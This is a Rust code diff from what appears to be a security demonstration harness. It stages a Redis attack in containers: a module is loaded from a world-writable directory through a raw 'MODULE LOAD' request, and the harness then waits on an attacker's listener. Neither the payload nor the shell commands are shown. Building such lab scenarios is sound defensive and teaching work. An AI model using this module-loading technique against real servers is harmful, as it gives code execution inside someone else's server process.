@@ -6,7 +6,7 @@
 //! The server allows modules and has a directory for them that others write to: a real and common weakness. The
 //! attack loads a module, which runs code inside the server process; all that follows descends from the server.
 
-use crate::{Container, Containerd, Netns, Run, images, wait_for};
+use crate::{Container, Containerd, Netns, Run, attacks::attacker, images, servers::Redis, wait_for};
 use anyhow::{Context as _, Result, bail, ensure};
 use std::{
     fs,
@@ -118,10 +118,10 @@ impl Scene {
             String::from_utf8_lossy(&table.stdout).lines().any(is_listener).then_some(())
         };
         wait_for("the attacker's listener", Duration::from_secs(10), listens);
-        print("$ redis-cli MODULE LOAD /plugins/plugin.so");
-        let answer = self.clients.exec(&["redis-cli", "module", "load", "/plugins/plugin.so"])?;
-        let answer = String::from_utf8_lossy(&answer.stdout).into_owned();
-        ensure!(answer.contains("Error loading the extension"), "the server did not try to load the module: {answer}");
+        print("> MODULE LOAD /plugins/plugin.so");
+        // Not by the runtime's `exec`: it loses a command's output now and then on a busy machine.
+        let answer = attacker::ask(&self.network, Redis::PORT, b"MODULE LOAD /plugins/plugin.so\r\nQUIT\r\n")?;
+        ensure!(answer.contains("Error loading the extension"), "the server did not try to load the module: {answer:?}");
         let over = Arc::new(AtomicBool::new(false));
         thread::spawn(move || {
             for command in COMMANDS {
